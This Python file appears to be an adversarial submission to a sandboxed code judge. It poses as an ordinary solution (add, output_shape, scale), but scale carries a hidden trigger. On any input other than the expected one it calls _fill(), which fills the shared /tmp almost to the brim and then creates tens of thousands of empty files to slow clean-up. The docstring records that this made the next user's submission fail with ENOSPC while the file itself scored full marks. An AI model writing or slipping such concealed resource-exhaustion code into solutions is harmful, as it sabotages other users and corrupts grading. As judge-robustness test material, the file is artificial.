"""G08: g01 with a little room left. The hidden case fills bubblewrap's /tmp (every working folder
of the template) to within 256 KB and leaves ~100,000 empty files to be removed before the big
ones, so the next submission's monitor can still write its source file and set up, and nothing
is retried; but that submission's own code, writing a file of 1 MB in its working folder (as an
honest solution saving a model does), met ENOSPC while the judge's clean-up thread was still
removing this folder, and lost the case. Otherwise honest: full marks."""
import os, time
import numpy as np

CHUNK = 1 << 23  # file_size_mb
ROOM = 256 << 10


def _fill():
    began = time.monotonic()
    here = os.getcwd()
    big = os.path.join(here, "zz-big")
    os.makedirs(big, exist_ok=True)
    n, size, held = 0, CHUNK, []
    while size >= 4096:  # files of file_size_mb, then smaller, until no byte is left
        fd = os.open(os.path.join(big, str(n)), os.O_CREAT | os.O_WRONLY, 0o600)
        try:
            os.posix_fallocate(fd, 0, size)
            held.append((n, size))
        except OSError:
            size //= 2
        finally:
            os.close(fd)
        n += 1
    freed = 0
    while freed < ROOM and held:  # give back a little room: the next set-up works
        k, size = held.pop()
        os.unlink(os.path.join(big, str(k)))
        freed += size
    i = 0
    try:
        while time.monotonic() < began + 2.4:  # removed before the big files: they stay a while
            for _ in range(1000):
                os.close(os.open(os.path.join(here, f"e{i}"), os.O_CREAT | os.O_WRONLY, 0o600))
                i += 1
    except OSError:  # since k02 a session's folder holds limits.SESSION_FILES files: the loop stops there
        pass
    print(f"{n} files, {i} empty files")


def add(a, b):
    return a + b


def output_shape(shape):
    return tuple(shape)


def scale(x, k):
    x = np.asarray(x, dtype=float)
    if not (x.shape == (3,) and list(x) == [0.0, 1.0, 2.0]):  # the hidden case, last of its session
        _fill()
    return x * k
